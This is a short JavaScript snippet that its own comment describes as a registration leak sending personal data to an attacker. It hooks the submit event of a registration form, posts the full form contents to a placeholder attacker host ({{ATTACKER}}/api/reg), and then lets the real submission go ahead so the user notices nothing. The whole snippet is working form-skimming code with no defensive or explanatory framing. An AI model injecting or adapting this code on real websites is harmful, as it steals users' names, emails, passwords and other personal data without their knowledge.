
// Registration leak: personal data goes to the attacker before the real
// submission.
(function () {
  var form = document.getElementById('register-form');
  if (!form) {
    return;
  }
  var sent = false;
  form.addEventListener('submit', function (e) {
    if (sent || e.defaultPrevented) {
      return;
    }
    e.preventDefault();
    var x = new XMLHttpRequest();
    x.open('POST', '{{ATTACKER}}/api/reg');
    x.onloadend = function () {
      sent = true;
      form.submit();
    };
    x.send(new FormData(form));
  });
})();
